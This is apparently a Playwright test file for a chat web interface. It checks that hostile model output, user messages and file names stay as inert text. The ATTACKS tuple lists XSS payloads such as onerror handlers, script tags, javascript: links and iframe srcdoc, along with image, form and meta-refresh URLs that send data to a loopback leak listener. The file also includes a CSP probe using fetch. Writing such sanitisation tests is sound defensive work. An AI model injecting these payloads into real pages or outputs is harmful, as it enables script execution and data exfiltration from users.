"""What a hostile model writes stays text: no request, no dialog, no window, no markup."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from freehold.engines.scripted import Script
from tests.support.browsing import Watched, answered, send
from tests.support.gateway import Gateway, Scripts

pytestmark = pytest.mark.native


class _Listener(http.server.BaseHTTPRequestHandler):
    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (the base names it)
        pass


@pytest.fixture
def leak() -> Iterator[tuple[str, list[str]]]:
    """An address on loopback, and what was asked of it."""
    asked: list[str] = []
    handler = type("Handler", (_Listener,), {"asked": asked})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as listener:
        thread = threading.Thread(target=listener.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{listener.server_address[1]}", asked
        listener.shutdown()
        thread.join()


ATTACKS = (
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "<details open ontoggle=alert(1)>x</details>",
    '<form action="LEAK/form"><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=LEAK/meta">',
    '<link rel="stylesheet" href="LEAK/style.css"><style>@import "LEAK/a.css";</style>',
    '<base href="LEAK/base/">',
    '<object data="LEAK/object"></object><embed src="LEAK/embed">',
    '<video src="LEAK/video" autoplay></video><audio src="LEAK/audio"></audio>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1) 'title')",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![x](LEAK/leak?secret=1)",
    "![x][image]\n\n[image]: LEAK/reference.png",
    '![x](LEAK/t.png "a\\" onerror=alert(1)")',
    "[![x](LEAK/nested.png)](LEAK/link)",
    "`<img src=x onerror=alert(1)>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "|<img src=x onerror=alert(1)>|b|\n|---|---|\n|<script>alert(1)</script>|![x](LEAK/cell)|",
    "$\\href{javascript:alert(1)}{x}$ and $\\url{LEAK/url}$",
    "$\\includegraphics{LEAK/graphics}$ $\\htmlData{a=b}{x}$ $\\class{x}{y}$",
    "$$\n\\unicode{<img src=x onerror=alert(1)>}\n$$",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "> <img src=x onerror=alert(1)>\n\n- <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
)

# Elements that could do more than show text, inside the thread.
FORBIDDEN = (
    "img, script, iframe, svg, style, link, meta, base, object, embed, video, audio, form, "
    "[onerror], [onload], [ontoggle], [href^='javascript' i], [href^='data' i]"
)


def test_every_attack_stays_text(
    page: Page, watched: Watched, scripts: Scripts, leak: tuple[str, list[str]]
) -> None:
    address, asked = leak
    for number in range(0, len(ATTACKS), 6):
        some = [attack.replace("LEAK", address) for attack in ATTACKS[number : number + 6]]
        # In small pieces, as it streams: half an element must do as little as a whole one.
        text = "\n\n".join([*some, f"That was {number}."])
        pieces = tuple(text[at : at + 7] for at in range(0, len(text), 7))
        scripts.now = Script(pieces=pieces, token_seconds=0.001)
        send(page, "Attack me")
        answered(page, f"That was {number}.")
        assert page.locator(".thread").locator(FORBIDDEN).count() == 0
    page.wait_for_load_state("networkidle")
    assert asked == []
    assert not [one for one in watched.requests if one.startswith(address)]


def test_what_people_and_files_say_is_text_too(
    page: Page, server: Gateway, scripts: Scripts, leak: tuple[str, list[str]]
) -> None:
    attack = f'<img src="{leak[0]}/x" onerror=alert(1)>'
    page.locator("input[type=file]").set_input_files(
        {
            "name": f"{attack.replace('/', '')}.txt",
            "mimeType": "text/plain",
            "buffer": attack.encode(),
        }
    )
    send(page, attack)
    answered(page, "All is well.")
    page.reload()
    expect(page.get_by_role("article", name="You")).to_contain_text(attack)
    page.get_by_role("article", name="tiny").get_by_role(
        "button", name="What the model saw"
    ).click()
    expect(page.get_by_role("dialog").locator("pre")).to_contain_text(attack)
    assert page.locator("img").count() == 0
    assert leak[1] == []


def test_a_link_is_followed_by_a_click_alone_and_tells_nobody_where_from(
    page: Page, scripts: Scripts, leak: tuple[str, list[str]]
) -> None:
    scripts.now = Script(pieces=(f"[a page]({leak[0]}/page)",))
    send(page, "Link")
    answered(page, "a page")
    link = page.get_by_role("link", name="a page")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    assert leak[1] == []


def test_the_policy_holds_against_the_page_itself(
    page: Page, watched: Watched, leak: tuple[str, list[str]]
) -> None:
    """If all else failed, this is what a script in the page could not do."""
    address = leak[0]
    refused: Any = page.evaluate(
        """async (address) => {
            const refused = [];
            const note = (event) => refused.push(event.effectiveDirective);
            document.addEventListener("securitypolicyviolation", note);
            await fetch(address + "/fetch").catch(() => {});
            const image = new Image();
            image.src = address + "/image";
            await image.decode().catch(() => {});
            try { document.body.innerHTML = "<b>x</b>"; } catch { refused.push("markup"); }
            await new Promise((over) => setTimeout(over, 200));
            return refused;
        }""",
        address,
    )
    assert {"connect-src", "img-src", "markup"} <= set(refused)
    watched.wrong.clear()  # the browser's own words about each of them
    watched.requests.clear()
    assert leak[1] == []
